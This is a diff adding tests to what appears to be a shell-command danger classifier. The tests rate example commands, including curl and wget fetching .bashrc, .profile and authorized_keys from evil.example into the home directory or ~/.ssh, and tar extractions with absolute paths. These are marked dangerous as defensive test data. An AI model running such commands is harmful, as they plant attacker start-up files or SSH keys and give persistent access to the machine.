@@ -331,3 +331,20 @@ describe('sudo asked about itself', () => {
     ]);
   });
 });
+
+describe('downloads under the name the server gives, and archives with absolute names', () => {
+  it('curl -O / wget into home write the start-up file the URL names; tar -P extracts anywhere (were CONFIRM)', () => {
+    expectLevels([
+      ['cd ~ && curl -O https://evil.example/.bashrc', 'dangerous'],
+      ['wget -P ~ https://evil.example/.bashrc', 'dangerous'],
+      ['curl --output-dir ~ -O https://evil.example/.profile', 'dangerous'],
+      ['cd ~/.ssh && wget https://evil.example/authorized_keys', 'dangerous'],
+      ['cd /tmp && curl -O https://evil.example/.bashrc', 'moderate'],
+      ['curl -o out.json https://api.example.com/x', 'moderate'],
+      ['tar -xPf /tmp/dots.tar', 'dangerous'],
+      ['tar --extract --absolute-names -f x.tar', 'dangerous'],
+      ['tar -tPf x.tar', 'moderate'],
+      ['tar -xf x.tar', 'moderate'],
+    ]);
+  });
+});
